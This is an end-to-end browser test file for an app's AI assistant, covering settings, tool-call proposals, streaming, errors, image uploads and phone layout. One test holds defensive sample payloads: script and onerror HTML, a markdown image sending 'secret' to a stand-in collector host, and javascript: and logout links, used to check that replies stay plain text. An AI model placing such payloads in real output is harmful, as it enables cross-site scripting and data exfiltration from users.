import { afterAll, beforeAll, expect, setDefaultTimeout } from 'bun:test'
import type { Browser, Page } from 'playwright-core'
import { makePng } from '../src/testing/archives/archives'
import { accessibilityFaults } from './accessibility'
import { type AssistantSetup, openAssistantSetup } from './assistant-setup'
import { hasBrowser, openBrowser, openPage, PHONE, pageLoaded, signedIn, step, type WatchedPage } from './browser'
import { until } from './download-setup'
import { endAll } from './panelkeep'

setDefaultTimeout(300_000)

/** The assistant in a real browser, with a scripted model server. */
let setup: AssistantSetup
let browser: Browser
let desk: WatchedPage
let page: Page

beforeAll(async () => {
  if (!hasBrowser) return
  setup = await openAssistantSetup(NOT_CONFIGURED)
  browser = await openBrowser()
  desk = await signedIn(await openPage(browser), setup.panelkeep)
  page = desk.page
})
afterAll(async () => {
  await browser?.close()
  await setup?.stop()
  endAll()
})

/** The user enters the server in the settings. The steps send more requests than the default limit per minute. */
const NOT_CONFIGURED = { PANELKEEP_AI_BASE_URL: '', PANELKEEP_AI_MODEL: '', PANELKEEP_AI_RPM_LIMIT: '0' }
const HARBOR = '/api/series/harbor'
type Issues = { issues: { id: string; number: string; status: string }[] }
const issues = async () => (await setup.reader.json<Issues & Record<string, unknown>>(HARBOR)).issues
/** The states of the issues without a file, by number. */
const missing = async () => {
  const open = (await issues()).filter(({ status }) => status !== 'Downloaded')
  return Object.fromEntries(open.map(({ number, status }) => [number, status]))
}

const go = (path: string, on = page) => on.goto(setup.panelkeep.url + path)
const nav = (on = page) => on.getByRole('navigation', { name: 'Pages' })
const server = () => page.locator('.model-server')
const field = () => page.getByRole('textbox', { name: 'Ask about your library' })
const ask = async (text: string) => {
  await field().fill(text)
  await field().press('Enter')
}
const newChat = () => go('/assistant')
const said = (text: string) => page.getByRole('list', { name: 'Messages' }).getByText(text)
const lastReply = () => page.locator('.message[data-role="assistant"]').last()
/** Waits until the turn has ended: the Send button is back. */
const answered = () => page.getByRole('button', { name: 'Send' }).waitFor()
const clean = async (on = page) => expect(await accessibilityFaults(on)).toEqual([])

step('while the assistant is off no page shows it, and its address explains how to turn it on', async () => {
  await go('/settings')
  await nav().getByRole('link', { name: 'Library' }).waitFor()
  expect(await nav().getByText('Assistant').count()).toBe(0)
  await page.getByRole('combobox', { name: 'Search everywhere' }).fill('assistant')
  await page.getByRole('option', { name: /to follow/ }).waitFor()
  expect(await page.getByRole('option', { name: 'Assistant', exact: true }).count()).toBe(0)
  await go('/assistant')
  await page.getByRole('heading', { name: 'The assistant is off' }).waitFor()
  await desk.shot('off')
  await clean()
  await page.getByRole('link', { name: 'Open the settings' }).click()
  await server().waitFor()
  expect(setup.model.requests).toEqual([])
})

step('a server is tested and saved, and the assistant appears', async () => {
  await server().getByLabel('Base URL').fill('http://127.0.0.1:9/v1')
  await server().getByLabel('Model name').fill('tiny-model')
  await server().getByRole('button', { name: 'Test' }).click()
  await server().locator('.tried [data-wrong]').waitFor()
  await desk.shot('settings-wrong')
  await server().getByLabel('Base URL').fill(setup.baseUrl)
  await server().getByLabel('Model name').click()
  await page.getByText('Choose one of the 2 models of this server').waitFor()
  await server().getByRole('button', { name: 'Test' }).click()
  await server()
    .getByText(/^tiny-model replied in/)
    .waitFor()
  await server().getByRole('button', { name: 'Save' }).click()
  await nav().getByRole('link', { name: 'Assistant' }).waitFor()
  await page.getByRole('heading', { name: 'Tokens per day' }).waitFor()
  await desk.shot('settings')
  await clean()
})

step('the assistant finds gaps, proposes to want them, and is confirmed', async () => {
  setup.model.reply(
    { calls: [{ name: 'series_with_gaps', arguments: {} }] },
    'Harbor Lights misses **two** issues.',
    { calls: [{ name: 'propose_want_issues', arguments: { series_name: 'Harbor Lights' } }] },
    'Confirm it below.',
  )
  await nav().getByRole('link', { name: 'Assistant' }).click()
  await page.getByRole('button', { name: 'Which series have gaps?' }).waitFor()
  await desk.shot('empty')
  await clean()
  await page.getByRole('button', { name: 'Which series have gaps?' }).click()
  await page.getByRole('link', { name: 'Harbor Lights' }).waitFor()
  await said('Harbor Lights misses two issues.').waitFor()
  await answered()
  expect(await page.getByRole('link', { name: 'Harbor Lights' }).getAttribute('href')).toBe('/library/harbor')
  expect(await page.locator('.result tbody').textContent()).toContain('#3, #4')
  await ask('Want them.')
  const proposal = page.getByRole('region', { name: /^Proposal/ })
  await proposal.getByText('Harbor Lights #3').waitFor()
  await answered()
  await desk.shot('proposal')
  await clean()
  expect(await missing()).toEqual({ 3: 'Skipped', 4: 'Skipped' })
  await proposal.getByRole('button', { name: 'Confirm' }).click()
  await proposal.getByText('Applied').waitFor()
  expect(await missing()).toEqual({ 3: 'Wanted', 4: 'Wanted' })
  await page.reload()
  await page.getByText('Applied').waitFor()
  await desk.shot('applied')
})

step('a model without tools does the same with lines of JSON', async () => {
  const modelIs = (ai_model: string) => setup.reader.put('/api/config', { ai_model })
  await modelIs('other-model')
  setup.model.refuses.add('refuses tools')
  setup.model.reply(
    '{"pattern_id":"issues_by_status","parameters":{"status":"Wanted"}}',
    'Two issues are wanted.',
    '{"pattern_id":"propose_skip_issues","parameters":{"series_name":"Harbor Lights","numbers":["3"]}}',
    'Confirm it below.',
  )
  await newChat()
  await ask('Which issues are wanted?')
  await page.getByRole('link', { name: 'Harbor Lights #4' }).waitFor()
  await said('Two issues are wanted.').waitFor()
  await answered()
  await ask('Skip the first one.')
  await page.getByRole('button', { name: 'Confirm' }).waitFor()
  await answered()
  await page.getByRole('button', { name: 'Confirm' }).click()
  await page.getByText('Applied').waitFor()
  expect(await missing()).toEqual({ 3: 'Skipped', 4: 'Wanted' })
  expect(await page.getByText('pattern_id').count()).toBe(0)
  setup.model.refuses.clear()
  await modelIs('tiny-model')
})

step('a proposal about issues that changed meanwhile changes nothing', async () => {
  setup.model.reply(
    { calls: [{ name: 'propose_skip_issues', arguments: { series_name: 'Harbor Lights', numbers: ['4'] } }] },
    'Confirm it below.',
  )
  await newChat()
  await ask('Skip the last one.')
  await page.getByRole('button', { name: 'Confirm' }).waitFor()
  await answered()
  const id = (await issues()).find(({ number }) => number === '4')?.id
  expect((await setup.reader.put(`/api/series/issues/${id}/unqueue`)).status).toBe(200)
  await page.getByRole('button', { name: 'Confirm' }).click()
  await page.getByText('Out of date, nothing changed').waitFor()
  await desk.shot('stale')
  expect(await missing()).toEqual({ 3: 'Skipped', 4: 'Skipped' })
})

step('a reply is stopped, and its partial text stays', async () => {
  const held = Promise.withResolvers<void>()
  // Held before the end of the text: five seconds after it, the app waits no longer for the rest.
  setup.model.reply({ text: 'There is a lot to tell about this. ', untilAt: 7, until: held.promise })
  await newChat()
  await ask('Tell me everything.')
  await said('There is a lot to tell').waitFor()
  await desk.shot('streaming')
  await clean()
  await page.getByRole('button', { name: 'Stop the reply' }).click()
  await said('Stopped.').waitFor()
  await until('the model server to notice', async () => setup.model.last.hungUp || undefined)
  held.resolve()
  await page.reload()
  await said('There is a lot to tell').waitFor()
  await said('Stopped.').waitFor()
  expect(await lastReply().getByRole('button', { name: 'Try again' }).count()).toBe(1)
})

step('a reload in the middle of a reply shows the partial reply', async () => {
  const held = Promise.withResolvers<void>()
  setup.model.reply({ text: 'This takes a while. ', untilAt: 5, until: held.promise })
  await newChat()
  await ask('And now?')
  await said('This takes a while.').waitFor()
  await page.reload()
  await said('This takes a while.').waitFor()
  await said('Stopped.').waitFor()
  held.resolve()
})

step('a failure is shown as a sentence, and a retry replaces it', async () => {
  setup.model.reply({ fault: 'status 401' })
  await newChat()
  await ask('Hello?')
  await lastReply().locator('[data-status="error"]').waitFor()
  expect(await lastReply().textContent()).toMatch(/key/i)
  await desk.shot('error')
  await clean()
  setup.model.reply({ fault: 'status 500' }, 'Now it works.')
  await ask('Again?')
  await lastReply().getByRole('button', { name: 'Try again' }).click()
  await said('Now it works.').waitFor()
  await answered()
  expect(await page.locator('.message').count()).toBe(4)
})

const MALICE = [
  '<img src="https://collector.example/a.png" onerror="document.title = 1"><script>document.title = 1</script>',
  '![cover](https://collector.example/b.png?q=secret)',
  '[Open the settings](https://collector.example/) [go](javascript:document.title=1) [out](/api/auth/logout)',
].join('\n\n')

step('HTML and links in a reply stay text', async () => {
  const elsewhere: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(setup.panelkeep.url)) elsewhere.push(request.url())
  })
  setup.model.reply(`${MALICE}\n\n[Your downloads](/activity)`)
  await newChat()
  await ask('What is new?')
  await page.getByRole('link', { name: 'Your downloads' }).waitFor()
  await answered()
  const reply = lastReply().locator('.reply-text')
  expect(await reply.locator('img, script').count()).toBe(0)
  expect(await reply.locator('a').evaluateAll((all) => all.map((link) => link.getAttribute('href')))).toEqual([
    '/activity',
  ])
  for (const line of MALICE.split('\n\n')) expect(await reply.textContent()).toContain(line)
  await desk.shot('malice')
  await reply.getByRole('link').click()
  await page.waitForURL('**/activity')
  expect(elsewhere).toEqual([])
})

step('images are checked, shown and sent', async () => {
  const png = { name: 'cover.png', mimeType: 'image/png', buffer: Buffer.from(makePng(200, 300, [40, 120, 200], '3')) }
  const text = { name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('no image') }
  setup.model.reply('It is blue.')
  await newChat()
  await page.locator('input[type=file]').setInputFiles([png, text])
  await page.getByText('notes.txt is not a JPEG, PNG or WebP image.').waitFor()
  await page.getByRole('img', { name: 'cover.png' }).waitFor()
  await desk.shot('attached')
  await clean()
  await ask('Which colour is it?')
  await said('It is blue.').waitFor()
  await answered()
  const [request] = setup.model.requests.slice(-1)
  expect(JSON.stringify(request?.body.messages)).toContain('image_url')
  await page.reload()
  const picture = page.locator('.message-pictures img')
  await picture.waitFor()
  await page.waitForFunction(
    () => (document.querySelector('.message-pictures img') as HTMLImageElement).naturalWidth > 0,
  )
  await desk.shot('sent')
})

step('chats are renamed and deleted', async () => {
  await page.getByRole('complementary', { name: 'Chats' }).locator('[data-here]').getByRole('button').click()
  await page.getByRole('menuitem', { name: 'Rename' }).click()
  await page.getByLabel('Name', { exact: true }).fill('A blue cover')
  await page.getByRole('button', { name: 'Rename' }).click()
  await page.getByRole('link', { name: /A blue cover/ }).waitFor()
  await page.getByRole('button', { name: 'More about A blue cover' }).click()
  await page.getByRole('menuitem', { name: 'Delete' }).click()
  await page.getByRole('button', { name: 'Delete', exact: true }).click()
  await page.waitForURL((url) => url.search === '')
  expect(await page.getByRole('link', { name: /A blue cover/ }).count()).toBe(0)
})

step('every request is listed with its tokens', async () => {
  await page.getByRole('link', { name: 'Activity', exact: true }).last().click()
  await page.getByRole('table', { name: 'Requests to the model server' }).locator('tbody tr').nth(5).waitFor()
  await page.getByRole('table', { name: 'Tokens a day' }).waitFor({ state: 'attached' })
  await desk.shot('activity')
  await clean()
})

step('the assistant works on a phone, with the chats in a sheet', async () => {
  const phone = await signedIn(await openPage(browser, PHONE, { colorScheme: 'dark', hasTouch: true }), setup.panelkeep)
  await go('/assistant', phone.page)
  await phone.page.getByRole('button', { name: 'Chats' }).click()
  await phone.shot('phone-chats')
  await clean(phone.page)
  await phone.page.getByRole('dialog').getByRole('link').last().click()
  await phone.page.getByText('Applied').waitFor()
  expect(await phone.page.evaluate('document.documentElement.scrollWidth - innerWidth')).toBe(0)
  await phone.shot('phone-chat')
  await clean(phone.page)
  expect(phone.complaints).toEqual([])
  await phone.close()
})

step('after it is turned off, no page shows the assistant', async () => {
  await go('/settings#assistant')
  // Content that is still loading above would move the button.
  await pageLoaded(page)
  await server().getByRole('button', { name: 'Turn off' }).click()
  await page.getByRole('dialog').getByRole('button', { name: 'Turn off' }).click()
  await nav().getByRole('link', { name: 'Assistant' }).waitFor({ state: 'detached' })
  expect(desk.complaints).toEqual([])
})
